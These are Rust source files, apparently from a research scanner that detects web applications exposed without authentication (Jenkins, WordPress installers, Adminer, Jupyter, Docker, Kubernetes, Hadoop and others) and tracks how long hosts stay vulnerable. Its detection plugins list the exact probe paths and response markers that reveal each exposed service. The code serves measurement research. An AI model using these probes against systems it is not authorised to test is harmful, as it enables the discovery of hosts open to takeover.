            Pattern::exact("phpMyAdmin"),
            Pattern::exact("phpmyadmin.css.php"),
            Pattern::exact("PMA_commonParams"),
            Pattern::exact("pma_login"),
            Pattern::exact("pmahomme"),
        ],
    );
    add(
        AppId::Adminer,
        [
            Pattern::exact("Login - Adminer"),
            Pattern::exact("adminer.org"),
            Pattern::exact("adminer.css"),
            Pattern::exact("- Adminer 4"),
            Pattern::exact("name=\"auth[driver]\""),
        ],
    );
    out
}

/// Run all signatures against `body`, returning the distinct candidate
/// applications ordered by match strength (number of matching
/// signatures, strongest first; ties in catalog order). The pipeline
/// attributes an endpoint to `candidates[0]` unless a plugin confirms a
/// weaker candidate.
pub fn match_candidates(signatures: &[Signature], body: &PreparedBody) -> Vec<AppId> {
    rank_candidates(match_counts(signatures, body))
}

/// Order per-application match counts by strength (strongest first, ties
/// in catalog order). Shared by the linear scan above and the
/// single-pass [`MultiPattern`](crate::multipattern::MultiPattern)
/// matcher so both rank identically.
pub fn rank_candidates(mut by_strength: Vec<(AppId, u32)>) -> Vec<AppId> {
    by_strength.sort_by_key(|(app, count)| (std::cmp::Reverse(*count), *app));
    by_strength.into_iter().map(|(app, _)| app).collect()
}

/// The number of matching signatures per candidate application.
pub fn match_counts(signatures: &[Signature], body: &PreparedBody) -> Vec<(AppId, u32)> {
    let mut counts: std::collections::BTreeMap<AppId, u32> = Default::default();
    for s in signatures.iter().filter(|s| s.pattern.matches(body)) {
        *counts.entry(s.app).or_default() += 1;
    }
    counts.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::traits::{Driver, WebApp};
    use nokeys_apps::{build_instance, release_history, AppConfig};
    const DRIVER: Driver = Driver::new();

    #[test]
    fn exactly_ninety_signatures_five_per_app() {
        let sigs = all_signatures();
        assert_eq!(sigs.len(), 90);
        for app in AppId::in_scope() {
            assert_eq!(sigs.iter().filter(|s| s.app == app).count(), 5, "{app}");
        }
    }

    /// Follow the app's own redirects (as the prefilter client would) and
    /// return the first real body.
    fn root_body(app: &mut dyn WebApp) -> String {
        let mut path = "/".to_string();
        for _ in 0..5 {
            let out = DRIVER.get(app, &path);
            if let Some(loc) = out.response.location() {
                path = loc.to_string();
                continue;
            }
            return out.response.body_text();
        }
        panic!("redirect loop");
    }

    #[test]
    fn signatures_identify_every_app_in_both_states() {
        let sigs = all_signatures();
        for app in AppId::in_scope() {
            let history = release_history(app);
            for (vulnerable, version) in [(true, history[0]), (false, *history.last().unwrap())] {
                let cfg = if vulnerable {
                    AppConfig::vulnerable_for(app, &version)
                } else {
                    AppConfig::secure_for(app, &version)
                };
                let mut inst = build_instance(app, version, cfg);
                let body = root_body(inst.as_mut());
                let candidates = match_candidates(&sigs, &PreparedBody::new(body.clone()));
                assert!(
                    candidates.contains(&app),
                    "{app} (vulnerable={vulnerable}) not identified; body: {body}"
                );
            }
        }
    }

    #[test]
    fn background_noise_matches_nothing() {
        use nokeys_apps::background::BackgroundKind;
        let sigs = all_signatures();
        for kind in BackgroundKind::ALL {
            if !kind.speaks_http() {
                continue;
            }
            let body = kind
                .handle(
                    &nokeys_http::Request::get("/"),
                    std::net::Ipv4Addr::LOCALHOST,
                )
                .body_text();
            let candidates = match_candidates(&sigs, &PreparedBody::new(body.clone()));
            assert!(
                candidates.is_empty(),
                "{kind:?} matched {candidates:?}: {body}"
            );
        }
    }

    #[test]
    fn cross_app_false_positives_are_rare_and_known() {
        // A WordPress body must not look like Jenkins, etc. Jupyter Lab
        // and Notebook share infrastructure, so a one-directional overlap
        // is tolerated there — the stage III plugins disambiguate.
        let sigs = all_signatures();
        for app in AppId::in_scope() {
            let history = release_history(app);
            let version = *history.last().unwrap();
            let mut inst = build_instance(app, version, AppConfig::secure_for(app, &version));
            let body = root_body(inst.as_mut());
            let candidates = match_candidates(&sigs, &PreparedBody::new(body));
            for c in &candidates {
                let related = matches!(
                    (app, c),
                    (AppId::JupyterLab, AppId::JupyterNotebook)
                        | (AppId::JupyterNotebook, AppId::JupyterLab)
                );
                assert!(*c == app || related, "{app} body misidentified as {c}");
            }
        }
    }
}
