//! Jenkins MAV detection.

use crate::htmlcheck::{has_element, is_valid_html};
use crate::plugins::body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/view/all/newJob'",
    "Check that body contains 'Jenkins' and is valid HTML",
    "Parse HTML response and verify that element 'form#createItem' exists",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(body) = body_of(client, ep, scheme, "/view/all/newJob").await else {
        return false;
    };
    body.contains("Jenkins") && is_valid_html(&body) && has_element(&body, "form#createItem")
}
