//! GoCD MAV detection.

use crate::plugins::body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/go/home'",
    "Check that body contains 'Create a pipeline - Go' and 'pipelines-page', or \
     'Add Pipeline' and 'admin_pipelines', or 'Dashboard - Go' and '/go/admin/pipelines/', \
     or 'Pipelines - Go' and '/go/admin/pipelines'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(body) = body_of(client, ep, scheme, "/go/home").await else {
        return false;
    };
    let pairs: [(&str, &str); 4] = [
        ("Create a pipeline - Go", "pipelines-page"),
        ("Add Pipeline", "admin_pipelines"),
        ("Dashboard - Go", "/go/admin/pipelines/"),
        ("Pipelines - Go", "/go/admin/pipelines"),
    ];
    pairs
        .iter()
        .any(|(a, b)| body.contains(a) && body.contains(b))
}
