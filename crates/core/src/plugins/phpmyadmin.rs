//! phpMyAdmin passwordless-login detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/' and check that it contains 'Server connection collation' and \
     'phpMyAdmin documentation'",
    "If step 1 is not successful, visit '/phpmyadmin' and check that it contains \
     the same two strings",
];

fn markers(body: &str) -> bool {
    body.contains("Server connection collation") && body.contains("phpMyAdmin documentation")
}

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    if let Some(body) = ok_body_of(client, ep, scheme, "/").await {
        if markers(&body) {
            return true;
        }
    }
    match ok_body_of(client, ep, scheme, "/phpmyadmin").await {
        Some(body) => markers(&body),
        None => false,
    }
}
