//! Polynote detection (mere presence is the vulnerability).

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/'",
    "Check that response contains '<title>Polynote</title>'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    match ok_body_of(client, ep, scheme, "/").await {
        Some(body) => body.contains("<title>Polynote</title>"),
        None => false,
    }
}
