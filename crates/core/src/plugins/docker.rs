//! Docker exposed-daemon detection.

use crate::plugins::body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/' and check that body contains '{\"message\":\"page not found\"}'",
    "Visit '/version', convert response to lower case and check that it contains \
     'minapiversion' and 'kernelversion'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(root) = body_of(client, ep, scheme, "/").await else {
        return false;
    };
    if !root.contains("{\"message\":\"page not found\"}") {
        return false;
    }
    let Some(version) = body_of(client, ep, scheme, "/version").await else {
        return false;
    };
    let lower = version.to_ascii_lowercase();
    lower.contains("minapiversion") && lower.contains("kernelversion")
}
