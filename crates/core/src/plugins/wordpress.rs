//! WordPress installation-hijack detection.

use crate::htmlcheck::{has_element, is_valid_html};
use crate::plugins::body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/wp-admin/install.php?step=1'",
    "Check that body contains 'WordPress' and is valid HTML",
    "Parse HTML response and verify that elements 'form#setup' and \
     'form#setup input#pass1' exist",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(body) = body_of(client, ep, scheme, "/wp-admin/install.php?step=1").await else {
        return false;
    };
    body.contains("WordPress")
        && is_valid_html(&body)
        && has_element(&body, "form#setup")
        && has_element(&body, "form#setup input#pass1")
}
