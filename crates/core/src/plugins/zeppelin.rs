//! Zeppelin open-API detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/api/notebook'",
    "Check that response contains '{\"status\":\"OK\",'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    match ok_body_of(client, ep, scheme, "/api/notebook").await {
        Some(body) => body.contains("{\"status\":\"OK\","),
        None => false,
    }
}
