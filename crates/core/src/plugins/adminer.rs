//! Adminer empty-password login detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/adminer.php?username=root' and check that it contains \
     'through PHP extension' and 'Logged as'",
    "If step 1 is not successful, visit '/adminer/adminer.php?username=root' and \
     check that it contains the same two strings",
];

fn markers(body: &str) -> bool {
    body.contains("through PHP extension") && body.contains("Logged as")
}

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    for path in [
        "/adminer.php?username=root",
        "/adminer/adminer.php?username=root",
    ] {
        if let Some(body) = ok_body_of(client, ep, scheme, path).await {
            if markers(&body) {
                return true;
            }
        }
    }
    false
}
