//! Consul script-checks detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/v1/agent/self' and check that response is valid JSON",
    "Parse JSON response and check that the 'DebugConfig' property does exist",
    "Check that at least one of 'DebugConfig.EnableScriptChecks' and \
     'DebugConfig.EnableRemoteScriptChecks' is enabled",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(body) = ok_body_of(client, ep, scheme, "/v1/agent/self").await else {
        return false;
    };
    let Ok(json) = serde_json::from_str::<serde_json::Value>(&body) else {
        return false;
    };
    let Some(debug) = json.get("DebugConfig") else {
        return false;
    };
    ["EnableScriptChecks", "EnableRemoteScriptChecks"]
        .iter()
        .any(|k| debug.get(*k).and_then(|v| v.as_bool()).unwrap_or(false))
}
