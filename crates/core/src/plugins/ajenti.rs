//! Ajenti autologin detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/view/'",
    "Check that response contains 'customization.plugins.core.title || 'Ajenti'' \
     and 'ajentiPlatformUnmapped'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    match ok_body_of(client, ep, scheme, "/view/").await {
        Some(body) => {
            body.contains("customization.plugins.core.title || 'Ajenti'")
                && body.contains("ajentiPlatformUnmapped")
        }
        None => false,
    }
}
