//! Drupal installer detection.

use crate::plugins::{ok_body_of, squash};
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/core/install.php?langcode=en&profile=standard&continue=1'",
    "Remove all whitespace from response, as their placement differs across versions",
    "Check that body contains '<li class=\"is-active\">Set up database' (whitespace-free)",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(body) = ok_body_of(
        client,
        ep,
        scheme,
        "/core/install.php?langcode=en&profile=standard&continue=1",
    )
    .await
    else {
        return false;
    };
    squash(&body).contains("<liclass=\"is-active\">Setupdatabase")
}
