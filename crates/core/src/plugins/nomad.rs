//! Nomad open-agent detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/v1/jobs'",
    "Check that response contains '<title>Nomad</title>'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    match ok_body_of(client, ep, scheme, "/v1/jobs").await {
        Some(body) => body.contains("<title>Nomad</title>"),
        None => false,
    }
}
