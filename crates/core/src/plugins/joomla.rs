//! Joomla installer detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/installation/index.php'",
    "Check that the body contains 'Joomla! Web Installer' or \
     'Enter the name of your Joomla! site'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(body) = ok_body_of(client, ep, scheme, "/installation/index.php").await else {
        return false;
    };
    body.contains("Joomla! Web Installer") || body.contains("Enter the name of your Joomla! site")
}
