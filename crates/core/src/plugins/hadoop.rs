//! Hadoop YARN ResourceManager detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/cluster/cluster' and convert response to lower case",
    "Check that response contains 'hadoop', 'resourcemanager' and 'logged in as: dr.who'",
    "Visit '/ws/v1/cluster/apps/new-application' and check that it is valid JSON",
    "Parse the JSON response and check that it contains the 'application-id' object",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(cluster) = ok_body_of(client, ep, scheme, "/cluster/cluster").await else {
        return false;
    };
    let lower = cluster.to_ascii_lowercase();
    if !(lower.contains("hadoop")
        && lower.contains("resourcemanager")
        && lower.contains("logged in as: dr.who"))
    {
        return false;
    }
    let Some(new_app) = ok_body_of(client, ep, scheme, "/ws/v1/cluster/apps/new-application").await
    else {
        return false;
    };
    let Ok(json) = serde_json::from_str::<serde_json::Value>(&new_app) else {
        return false;
    };
    json.get("application-id").is_some()
}
