//! The 18 MAV detection plugins (paper Appendix Table 10).
//!
//! Each module exposes `detect` (the async verification routine) and
//! `STEPS` (the documented pseudo-code steps). Unless noted otherwise, a
//! MAV is only reported when *all* steps succeed.

pub mod adminer;
pub mod ajenti;
pub mod consul;
pub mod docker;
pub mod drupal;
pub mod gocd;
pub mod grav;
pub mod hadoop;
pub mod jenkins;
pub mod joomla;
pub mod jupyter_lab;
pub mod jupyter_notebook;
pub mod kubernetes;
pub mod nomad;
pub mod phpmyadmin;
pub mod polynote;
pub mod wordpress;
pub mod zeppelin;

use nokeys_http::{Client, Endpoint, Scheme, Transport};

/// Fetch `path` from the target (following redirects, as the client is
/// configured) and return the final body, or `None` on any error.
pub(crate) async fn body_of<T: Transport>(
    client: &Client<T>,
    ep: Endpoint,
    scheme: Scheme,
    path: &str,
) -> Option<String> {
    client
        .get_path(ep, scheme, path)
        .await
        .ok()
        .map(|fetched| fetched.response.body_text())
}

/// Like [`body_of`], but only for 2xx responses (several plugins treat
/// error pages as "step failed" even when a body exists).
pub(crate) async fn ok_body_of<T: Transport>(
    client: &Client<T>,
    ep: Endpoint,
    scheme: Scheme,
    path: &str,
) -> Option<String> {
    let fetched = client.get_path(ep, scheme, path).await.ok()?;
    if !fetched.response.status.is_success() {
        return None;
    }
    Some(fetched.response.body_text())
}

/// Strip all whitespace (the Drupal/Kubernetes normalization).
pub(crate) fn squash(s: &str) -> String {
    s.chars().filter(|c| !c.is_whitespace()).collect()
}
