//! Jupyter Lab open-terminal detection.

use crate::plugins::ok_body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/api/terminals'",
    "Check that response contains 'JupyterLab'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    match ok_body_of(client, ep, scheme, "/api/terminals").await {
        Some(body) => body.contains("JupyterLab"),
        None => false,
    }
}
