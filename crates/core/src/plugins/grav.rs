//! Grav account-creation detection.

use crate::plugins::body_of;
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/' and check that body contains 'The Admin plugin has been installed' \
     and 'Create User'",
    "If step 1 is not successful, visit '/admin' and check that body contains \
     'No user accounts found' and 'create one'",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    if let Some(body) = body_of(client, ep, scheme, "/").await {
        if body.contains("The Admin plugin has been installed") && body.contains("Create User") {
            return true;
        }
    }
    if let Some(body) = body_of(client, ep, scheme, "/admin").await {
        return body.contains("No user accounts found") && body.contains("create one");
    }
    false
}
