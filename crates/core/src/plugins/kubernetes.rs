//! Kubernetes anonymous-API detection.

use crate::plugins::{ok_body_of, squash};
use nokeys_http::{Client, Endpoint, Scheme, Transport};

pub const STEPS: &[&str] = &[
    "Visit '/' and check that body contains 'certificates.k8s.io' and 'healthz/ping'",
    "Visit '/api/v1/pods', remove all whitespace from the response and check that it \
     contains '\"phase\":\"Running\"'",
    "Parse the response as JSON and check that the 'items' array exists and is not empty",
];

pub async fn detect<T: Transport>(client: &Client<T>, ep: Endpoint, scheme: Scheme) -> bool {
    let Some(root) = ok_body_of(client, ep, scheme, "/").await else {
        return false;
    };
    if !(root.contains("certificates.k8s.io") && root.contains("healthz/ping")) {
        return false;
    }
    let Some(pods) = ok_body_of(client, ep, scheme, "/api/v1/pods").await else {
        return false;
    };
    if !squash(&pods).contains("\"phase\":\"Running\"") {
        return false;
    }
    let Ok(json) = serde_json::from_str::<serde_json::Value>(&pods) else {
        return false;
    };
    json.get("items")
        .and_then(|i| i.as_array())
        .map(|a| !a.is_empty())
        .unwrap_or(false)
}
