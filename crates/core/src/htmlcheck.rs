//! Tiny HTML checks used by detection plugins ("check that body is valid
//! HTML", "verify that element `form#createItem` exists").

/// Whether the body looks like an HTML document: has an opening `<html`
/// and a closing `</html>` tag in order.
pub fn is_valid_html(body: &str) -> bool {
    match (body.find("<html"), body.rfind("</html>")) {
        (Some(open), Some(close)) => open < close,
        _ => false,
    }
}

/// Check for an element selector of the form `tag#id` (the only selector
/// shape the paper's plugins use), e.g. `form#createItem` or
/// `form#setup input#pass1` (descendant combinator).
pub fn has_element(body: &str, selector: &str) -> bool {
    let mut search_from = 0usize;
    for part in selector.split_whitespace() {
        let Some((tag, id)) = part.split_once('#') else {
            return false;
        };
        match find_tag_with_id(&body[search_from..], tag, id) {
            Some(offset) => search_from += offset,
            None => return false,
        }
    }
    true
}

/// Find `<tag ... id="id" ...>` in `body`; returns the offset just past
/// the opening `<tag`.
fn find_tag_with_id(body: &str, tag: &str, id: &str) -> Option<usize> {
    let open = format!("<{tag}");
    let id_attr_dq = format!("id=\"{id}\"");
    let id_attr_sq = format!("id='{id}'");
    let mut pos = 0usize;
    while let Some(found) = body[pos..].find(&open) {
        let start = pos + found;
        // The character after the tag name must end the name.
        let after = start + open.len();
        let boundary_ok = body[after..]
            .chars()
            .next()
            .map(|c| c.is_whitespace() || c == '>' || c == '/')
            .unwrap_or(false);
        if boundary_ok {
            let tag_end = body[start..]
                .find('>')
                .map(|i| start + i)
                .unwrap_or(body.len());
            let tag_text = &body[start..tag_end];
            if tag_text.contains(&id_attr_dq) || tag_text.contains(&id_attr_sq) {
                return Some(after);
            }
        }
        pos = start + open.len();
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str = r#"<!DOCTYPE html><html><body>
        <form id="setup" method="post">
            <input type="password" id="pass1" name="admin_password">
        </form>
        <form id="createItem" action="/createItem"></form>
    </body></html>"#;

    #[test]
    fn valid_html_detection() {
        assert!(is_valid_html(PAGE));
        assert!(!is_valid_html("{\"json\":true}"));
        assert!(!is_valid_html("</html> before <html"));
        assert!(!is_valid_html(""));
    }

    #[test]
    fn single_selector() {
        assert!(has_element(PAGE, "form#setup"));
        assert!(has_element(PAGE, "form#createItem"));
        assert!(!has_element(PAGE, "form#login"));
        assert!(!has_element(PAGE, "div#setup"));
    }

    #[test]
    fn descendant_selector() {
        assert!(has_element(PAGE, "form#setup input#pass1"));
        // pass1 exists but not under (after) createItem.
        assert!(!has_element(PAGE, "form#createItem input#pass1"));
    }

    #[test]
    fn tag_name_boundaries_respected() {
        // `<formula id="setup">` must not match `form#setup`.
        let tricky = "<html><formula id=\"setup\"></formula></html>";
        assert!(!has_element(tricky, "form#setup"));
    }

    #[test]
    fn single_quoted_ids_match() {
        let page = "<html><form id='x'></form></html>";
        assert!(has_element(page, "form#x"));
    }

    #[test]
    fn malformed_selector_is_false() {
        assert!(!has_element(PAGE, "justatag"));
    }
}
