//! Longevity observer (RQ3 / Figure 2).
//!
//! "We repeated our scan on the 4,221 vulnerable hosts every three hours
//! over a time span of four weeks." For each vulnerable host the observer
//! re-runs the detection plugin and classifies the host as still
//! *vulnerable*, *fixed* (reachable, plugin negative) or *offline*
//! (unreachable). It also re-fingerprints to spot version updates.
//!
//! The observer is time-source agnostic: the caller supplies a callback
//! that advances the (virtual or real) clock to a given offset in seconds
//! before each rescan round.
//!
//! # Incremental rescans
//!
//! A finished [`LongevityStudy`] is also a checkpoint:
//! [`observe_incremental`] extends a prior study to a longer window
//! instead of starting over. Hosts that have been offline for the last
//! [`ObserverConfig::terminal_offline_after`] rounds are not re-probed
//! (their timelines stop growing — timelines are *ragged* after an
//! incremental round), and version fingerprints are reused when a cheap
//! hash pass over the host's static assets shows nothing changed.

use crate::fingerprint::{crawler, Fingerprinter};
use crate::plugin::detect_mav;
use crate::report::HostFinding;
use crate::telemetry::Telemetry;
use nokeys_http::{Client, Endpoint, ProbeOutcome, Transport};
use serde::{Deserialize, Serialize};

/// Status of one host at one observation point.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ObservedStatus {
    Vulnerable,
    Fixed,
    Offline,
}

impl ObservedStatus {
    /// Lowercase label, used for telemetry counter names.
    pub fn label(self) -> &'static str {
        match self {
            ObservedStatus::Vulnerable => "vulnerable",
            ObservedStatus::Fixed => "fixed",
            ObservedStatus::Offline => "offline",
        }
    }
}

/// Host counts per status at one observation point.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct StatusCounts {
    /// Hosts still confirmed vulnerable.
    pub vulnerable: u64,
    /// Hosts reachable but no longer confirmed (patched or secured).
    pub fixed: u64,
    /// Hosts that did not respond this round.
    pub offline: u64,
}

impl StatusCounts {
    /// All observed hosts (the three statuses are exhaustive).
    pub fn total(&self) -> u64 {
        self.vulnerable + self.fixed + self.offline
    }
}

/// Timeline of one host across all observation points.
///
/// `Deserialize` exists so a serialized [`LongevityStudy`] can be fed
/// back into [`observe_incremental`] as a checkpoint.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct HostTimeline {
    pub finding: HostFinding,
    /// Whether the deployment is insecure *by default* (versus explicitly
    /// modified) — Figure 2 groups by this.
    pub insecure_by_default: bool,
    /// One status per observation time. After an incremental round this
    /// may be *shorter* than [`LongevityStudy::times_secs`]: a host
    /// classified terminally offline stops accumulating observations
    /// (every missing entry reads as [`ObservedStatus::Offline`]).
    pub statuses: Vec<ObservedStatus>,
    /// Whether the fingerprinted version changed during observation.
    pub updated: bool,
    /// `(path, hash)` pairs from the last asset crawl, used by
    /// incremental rescans to skip re-fingerprinting hosts whose static
    /// files have not changed. Empty for never-crawled hosts (and for
    /// studies serialized before this field existed).
    #[serde(default)]
    pub asset_hashes: Vec<(String, u64)>,
}

impl HostTimeline {
    /// Whether the last `threshold` observations are all offline (with
    /// at least `threshold` observations recorded). Incremental rescans
    /// stop re-probing such hosts.
    pub fn terminally_offline(&self, threshold: usize) -> bool {
        threshold > 0
            && self.statuses.len() >= threshold
            && self.statuses[self.statuses.len() - threshold..]
                .iter()
                .all(|&s| s == ObservedStatus::Offline)
    }
}

/// Full longevity study output.
///
/// `Clone` lets the job engine hand each observation round's study out
/// through job events while retaining the accumulating original.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LongevityStudy {
    /// Observation offsets in seconds from the study start.
    pub times_secs: Vec<i64>,
    pub timelines: Vec<HostTimeline>,
}

impl LongevityStudy {
    /// Count hosts in each status at observation index `i`.
    ///
    /// Timelines with no observation at `i` — hosts an incremental
    /// rescan stopped re-probing as terminally offline — count as
    /// [`ObservedStatus::Offline`], so the totals always cover every
    /// host in the study.
    pub fn counts_at(&self, i: usize) -> StatusCounts {
        let mut counts = StatusCounts::default();
        for t in &self.timelines {
            let status = t
                .statuses
                .get(i)
                .copied()
                .unwrap_or(ObservedStatus::Offline);
            match status {
                ObservedStatus::Vulnerable => counts.vulnerable += 1,
                ObservedStatus::Fixed => counts.fixed += 1,
                ObservedStatus::Offline => counts.offline += 1,
            }
        }
        counts
    }

    /// Number of hosts whose version was updated during the study.
    pub fn updated_count(&self) -> u64 {
        self.timelines.iter().filter(|t| t.updated).count() as u64
    }
}

/// Observer configuration.
#[derive(Debug, Clone)]
pub struct ObserverConfig {
    /// Seconds between rescans (paper: 3 hours).
    pub interval_secs: i64,
    /// Total observation window (paper: 28 days).
    pub window_secs: i64,
    /// Consecutive offline observations after which an *incremental*
    /// rescan stops re-probing a host (default 8 — a full day at the
    /// paper's 3-hour cadence). The initial observation pass always
    /// probes every host every round; `0` disables the skip entirely.
    pub terminal_offline_after: usize,
}

impl Default for ObserverConfig {
    fn default() -> Self {
        ObserverConfig {
            interval_secs: 3 * 3600,
            window_secs: 28 * 86_400,
            terminal_offline_after: 8,
        }
    }
}

/// One host status change seen during an incremental rescan.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct StatusTransition {
    pub endpoint: Endpoint,
    /// Observation offset (seconds from study start) of the new status.
    pub at_secs: i64,
    pub from: ObservedStatus,
    pub to: ObservedStatus,
}

/// What an incremental rescan did, reconciling with the
/// `observer.rescan.*` counters.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct RescanDelta {
    /// Rescan rounds appended to the study.
    pub rounds: u64,
    /// Host-rounds skipped because the host was terminally offline
    /// (`observer.rescan.skipped`).
    pub skipped: u64,
    /// Host-rounds actually re-probed (`observer.rescan.reprobed`).
    pub reprobed: u64,
    /// Full fingerprint re-runs after the asset hash pass saw a change
    /// or had no cache (`observer.rescan.refingerprinted`).
    pub refingerprinted: u64,
    /// Fingerprint checks satisfied by unchanged asset hashes
    /// (`observer.rescan.reused`).
    pub fingerprints_reused: u64,
    /// Status changes between consecutive observations of a host.
    pub transitions: Vec<StatusTransition>,
}

/// Run the longevity observation.
///
/// `advance_clock(secs)` is called before each round with the offset from
/// the study start; with the simulated transport this maps to
/// `SimTransport::set_time`.
pub async fn observe<T, F>(
    client: &Client<T>,
    findings: &[HostFinding],
    config: &ObserverConfig,
    advance_clock: F,
) -> LongevityStudy
where
    T: Transport,
    F: FnMut(i64),
{
    observe_instrumented(
        &Telemetry::default(),
        client,
        findings,
        config,
        advance_clock,
    )
    .await
}

/// [`observe`] with telemetry: per-round status counts
/// (`observer.status.<status>`), status transitions between consecutive
/// rounds (`observer.transitions`), version updates
/// (`observer.version_updates`), rounds (`observer.rounds`) and a
/// virtual-clock timer charging one unit per host re-check
/// (`observer.recheck`).
pub async fn observe_instrumented<T, F>(
    telemetry: &Telemetry,
    client: &Client<T>,
    findings: &[HostFinding],
    config: &ObserverConfig,
    mut advance_clock: F,
) -> LongevityStudy
where
    T: Transport,
    F: FnMut(i64),
{
    let rounds = telemetry.counter("observer.rounds");
    let status_counters = [
        telemetry.counter("observer.status.vulnerable"),
        telemetry.counter("observer.status.fixed"),
        telemetry.counter("observer.status.offline"),
    ];
    let status_counter = |status: ObservedStatus| match status {
        ObservedStatus::Vulnerable => &status_counters[0],
        ObservedStatus::Fixed => &status_counters[1],
        ObservedStatus::Offline => &status_counters[2],
    };
    let transitions = telemetry.counter("observer.transitions");
    let version_updates = telemetry.counter("observer.version_updates");
    let recheck = telemetry.timer("observer.recheck");

    let fingerprinter = Fingerprinter::with_telemetry(telemetry);
    let times: Vec<i64> = (0..=config.window_secs / config.interval_secs)
        .map(|i| i * config.interval_secs)
        .collect();

    let mut timelines: Vec<HostTimeline> = findings
        .iter()
        .map(|f| HostTimeline {
            finding: f.clone(),
            insecure_by_default: f
                .version
                .map(|v| nokeys_apps::version::insecure_by_default(f.app, &v))
                .unwrap_or(false),
            statuses: Vec::with_capacity(times.len()),
            updated: false,
            asset_hashes: Vec::new(),
        })
        .collect();

    for &t in &times {
        advance_clock(t);
        rounds.incr();
        recheck.record(timelines.len() as u64);
        for timeline in &mut timelines {
            // Once offline or fixed, the paper keeps tracking: a fixed
            // host can still disappear, an offline host could return.
            // Re-check every round.
            let ep = timeline.finding.endpoint;
            let status = match client.transport().probe(ep).await {
                ProbeOutcome::Open => {
                    if detect_mav(client, timeline.finding.app, ep, timeline.finding.scheme).await {
                        ObservedStatus::Vulnerable
                    } else {
                        ObservedStatus::Fixed
                    }
                }
                _ => ObservedStatus::Offline,
            };
            status_counter(status).incr();
            if timeline.statuses.last().is_some_and(|&prev| prev != status) {
                transitions.incr();
            }
            timeline.statuses.push(status);

            // Version-update tracking (2.4% of hosts in the paper).
            if !timeline.updated && status != ObservedStatus::Offline {
                if let Some(before) = timeline.finding.version {
                    if let Some((now, _)) = fingerprinter
                        .fingerprint(client, timeline.finding.app, ep, timeline.finding.scheme)
                        .await
                    {
                        if now.triple() != before.triple() {
                            timeline.updated = true;
                            version_updates.incr();
                        }
                    }
                }
            }
        }
    }

    LongevityStudy {
        times_secs: times,
        timelines,
    }
}

/// Extend a prior [`LongevityStudy`] to `config.window_secs` instead of
/// re-observing from scratch.
///
/// New rounds continue at `config.interval_secs` after the prior study's
/// last observation. Per round, each host is either:
///
/// * **skipped** — [`HostTimeline::terminally_offline`] under
///   [`ObserverConfig::terminal_offline_after`]; no probe is sent and no
///   status is appended (the timeline goes ragged;
